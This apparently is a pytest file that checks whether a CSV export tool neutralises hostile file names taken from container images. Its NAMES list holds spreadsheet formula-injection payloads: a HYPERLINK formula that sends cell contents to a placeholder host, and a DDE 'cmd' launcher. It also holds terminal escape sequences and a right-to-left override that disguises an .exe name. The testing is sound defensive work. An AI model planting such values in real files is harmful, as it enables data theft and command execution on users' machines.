"""CSV: no cell of a name begins as a formula or holds a control character, and every byte can be
had back."""

import csv
import json
import unicodedata

import duckdb
import pyarrow.parquet
import pytest
from support import tars
from support.layouts import Layout
from support.runs import Runs

import hpc_remetrics
from hpc_remetrics import path_bytes
from hpc_remetrics.dataset.text_values import csv_text
from hpc_remetrics.export import export_command

pytestmark = pytest.mark.slow

NAMES = [
    b'=HYPERLINK("http://x/?"&A1,"click")',
    b"+1+cmd|' /C calc'!A0",
    b"-2+3",
    b"@SUM(A1:A9)",
    b"\t=1+1",
    b"\r=1+1",
    b"\n=1",
    "＝1+1".encode(),
    "＠x".encode(),
    b"\x1b[31mred\x1b[0m",
    b"\x1b]0;title\x07",
    b"\x9b31m",
    b"back\\slash",
    b"\\x3d1",
    b"=\\x3d",
    b'quote"comma,',
    b"a;=1+1",
    b"\xff\xfe=",
    "\u202egnp.exe".encode(),
    b"plain/name",
]


@pytest.fixture(scope="module")
def named(tmp_path_factory):
    directory = tmp_path_factory.mktemp("named")
    layout = Layout(directory / "layout")
    entries = [tars.file(name, b"text\n") for name in NAMES]
    links = [tars.header(b"l%d" % n, b"2", link=name) for n, name in enumerate(NAMES)]
    layout.image(
        "=1+1\x1b[31m:latest", [layout.layer(b"".join([*entries, *links]) + bytes(1024), "gzip")]
    )
    layout.image("-x:1", [layout.layer(tars.file(b"x", b"") + bytes(1024), "gzip")])
    runs = Runs(directory)
    runs.run(runs.analyze(f"oci:{layout.finish()}", directory / "named.h5"))
    assert export_command(directory / "named.h5", "csv", directory / "csv", ()) == 0
    assert export_command(directory / "named.h5", "parquet", directory / "parquet", ()) == 0
    return directory


def cells(directory):
    """Yield all values of the strings of all tables."""
    for path in sorted((directory / "csv").rglob("*.csv")):
        with open(path, newline="") as file:
            for row in csv.DictReader(file):
                yield from ((path.stem, name, value) for name, value in row.items())


@pytest.mark.slow
def test_the_bytes_come_back(named):
    with open(named / "csv" / "entries.csv", newline="") as file:
        rows = list(csv.DictReader(file))
    with hpc_remetrics.open(named / "named.h5") as dataset:
        paths, links = dataset.paths(), dataset.links()
    assert set(NAMES) <= set(paths)
    assert [path_bytes(row["path"]) for row in rows] == paths
    assert [path_bytes(row["link"]) for row in rows] == links


def test_strings_are_those_of_parquet_once_they_are_read_back(named):
    """By DuckDB, which knows nothing of this program."""
    connection = duckdb.connect()
    for table, column in (("images", "name"), ("repositories", "name"), ("types", "description")):
        rows = connection.execute(
            f"SELECT {column} FROM read_csv('{named}/csv/{table}.csv', header=true,"
            " all_varchar=true) ORDER BY row::INT"
        ).fetchall()
        want = pyarrow.parquet.read_table(named / "parquet" / f"{table}.parquet")[
            column
        ].to_pylist()
        assert [path_bytes(value or "").decode() for (value,) in rows] == want


@pytest.mark.slow
def test_no_cell_is_a_formula_or_moves_a_cursor(named):
    strings = 0
    for table, name, value in cells(named):
        assert not any(unicodedata.category(char) in ("Cc", "Cf", "Zl", "Zp") for char in value), (
            table,
            name,
            value,
        )
        if value[:1] in ("=", "+", "-", "@", "＝", "＋", "－", "＠"):
            float(value)  # a number may be below zero
        strings += 1
    assert strings > 500


def test_other_formats_keep_strings_as_they_are(named):
    paths = pyarrow.parquet.read_table(named / "parquet" / "entries.parquet")["path"].to_pylist()
    assert {path_bytes(path) for path in paths} >= set(NAMES)
    assert "@SUM(A1:A9)" in paths
    assert export_command(named / "named.h5", "json", named / "json", ("entries",)) == 0
    rows = [
        json.loads(line) for line in (named / "json" / "entries.jsonl").read_text().splitlines()
    ]
    assert [row["path"] for row in rows] == paths


@pytest.mark.parametrize("name", NAMES)
def test_what_is_written_otherwise_is_read_back(name):
    text = name.decode("utf-8", "replace")
    assert path_bytes(csv_text(text)) == text.encode()
